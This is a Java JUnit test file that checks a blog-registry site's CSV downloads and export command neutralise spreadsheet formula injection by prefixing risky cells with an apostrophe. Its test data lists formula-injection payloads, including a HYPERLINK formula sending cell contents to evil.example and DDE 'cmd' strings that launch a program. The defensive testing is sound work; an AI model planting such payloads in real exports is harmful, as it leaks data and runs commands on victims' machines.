package org.officialblogs.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringReader;
import java.io.StringWriter;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.officialblogs.export.CsvCells;
import org.officialblogs.export.ExportFixture;
import org.officialblogs.export.ExportTable;
import org.officialblogs.export.ExportTables;
import org.officialblogs.registry.UnavailableBlogPreviewer;
import org.officialblogs.testkit.TestServer;

/**
 * Names, offices, notes and post titles that a spreadsheet would run as formulas: every CSV the site writes (the
 * /data downloads and `export DIR`) begins such a cell with an apostrophe, while NDJSON keeps the text as it is.
 */
class FormulaCellsTest {

    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1 555 0100 Mayor",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed=1+1", "\rCarriage=1+1");
    /** A number in a numeric column may start with a minus: that is not text. */
    static final Pattern NUMBER = Pattern.compile("-?\\d+(\\.\\d+)?([eE]-?\\d+)?");

    @TempDir
    Path dir;
    TestServer server;

    @BeforeEach
    void start() {
        server = new TestServer(dir.resolve("data"), new UnavailableBlogPreviewer(),
                Map.of("OFFICIALBLOGS_API_REQUESTS_PER_MINUTE", "10000"), Clock.fixed(ExportFixture.NOW, ZoneOffset.UTC));
        ExportFixture.load(server.app);
        long t = ExportFixture.NOW.minus(Duration.ofDays(30)).toEpochMilli();
        server.app.database.jdbi().useHandle(h -> {
            h.execute("UPDATE official SET name = ?, office = ?, party = ? WHERE id = 1", HOSTILE.get(0), HOSTILE.get(1), HOSTILE.get(2));
            h.execute("UPDATE official SET office = ? WHERE id = 2", HOSTILE.get(3));
            h.execute("UPDATE blog SET notes = ? WHERE id = 10", HOSTILE.get(4));
            for (int i = 0; i < HOSTILE.size(); i++) {
                h.execute("""
                        INSERT INTO post (blog_id, guid, url, title, published_at, author_name, first_seen_at, last_seen_at)
                        VALUES (10, ?, ?, ?, ?, ?, ?, ?)""", "hostile" + i, "https://adam.example.hu/h" + i, HOSTILE.get(i),
                        t + i * 1000L, HOSTILE.get((i + 1) % HOSTILE.size()), t, t);
            }
        });
        server.app.metrics.recomputeAll(ExportFixture.NOW);
    }

    @AfterEach
    void stop() {
        server.close();
    }

    @Test
    void everyCsvDownloadStartsFormulaTextWithAnApostrophe() throws IOException {
        int hostileCells = 0;
        for (ExportTable table : ExportTables.ALL) {
            HttpResponse<String> csv = server.get("/data/" + table.name() + ".csv");
            assertThat(csv.statusCode()).isEqualTo(200);
            hostileCells += checkCells(table.name() + ".csv", csv.body());
        }
        assertThat(hostileCells).as("neutralised cells over all downloads").isGreaterThanOrEqualTo(HOSTILE.size() + 5);
        String posts = server.get("/data/posts.csv").body();
        for (String h : HOSTILE) assertThat(cells(posts)).as("posts.csv").contains("'" + h);
        // NDJSON (and the API) keep the original text
        String ndjson = server.get("/data/posts.ndjson").body();
        assertThat(ndjson).contains("\"title\":\"=HYPERLINK(").doesNotContain("\"'=HYPERLINK(");
        assertThat(server.get("/data").body()).contains("begins with an apostrophe (')");
        assertThat(server.get("/data/datapackage.json").body()).contains("begins with an apostrophe");
    }

    @Test
    void theExportCommandWritesTheSameNeutralisedFiles() throws IOException {
        Path out = dir.resolve("export");
        var cl = org.officialblogs.cli.Main.commandLine(new java.io.ByteArrayInputStream(new byte[0]), null);
        StringWriter err = new StringWriter();
        cl.setOut(new PrintWriter(new StringWriter(), true));
        cl.setErr(new PrintWriter(err, true));
        assertThat(cl.execute("export", out.toString(), "--data-dir=" + dir.resolve("data"))).as(err.toString()).isZero();
        int hostileCells = 0;
        for (ExportTable table : ExportTables.ALL) {
            String text = Files.readString(out.resolve(table.name() + ".csv"), StandardCharsets.UTF_8);
            hostileCells += checkCells(table.name() + ".csv", text);
            assertThat(text).as(table.name()).isEqualTo(server.get("/data/" + table.name() + ".csv").body());
        }
        assertThat(hostileCells).isGreaterThanOrEqualTo(HOSTILE.size() + 5);
    }

    @Test
    void theRuleLeavesOrdinaryTextAlone() {
        assertThat(CsvCells.text("Mayor of Lyon")).isEqualTo("Mayor of Lyon");
        assertThat(CsvCells.text("")).isEmpty();
        assertThat(CsvCells.text(null)).isNull();
        assertThat(CsvCells.text(" =not first")).isEqualTo(" =not first");
        assertThat(CsvCells.text("'already")).isEqualTo("'already");
        for (String h : HOSTILE) assertThat(CsvCells.text(h)).isEqualTo("'" + h);
    }

    /** Fails on any cell a spreadsheet would run; returns how many cells were neutralised. */
    private static int checkCells(String file, String text) throws IOException {
        int neutralised = 0;
        for (String cell : cells(text)) {
            if (cell.isEmpty() || NUMBER.matcher(cell).matches()) continue;
            assertThat("=+-@\t\r".indexOf(cell.charAt(0))).as("%s cell %s", file, cell).isEqualTo(-1);
            if (cell.length() > 1 && cell.charAt(0) == '\'' && "=+-@\t\r".indexOf(cell.charAt(1)) >= 0) neutralised++;
        }
        return neutralised;
    }

    private static List<String> cells(String text) throws IOException {
        List<String> all = new ArrayList<>();
        for (CSVRecord r : CSVFormat.RFC4180.parse(new StringReader(text))) r.forEach(all::add);
        return all;
    }
}
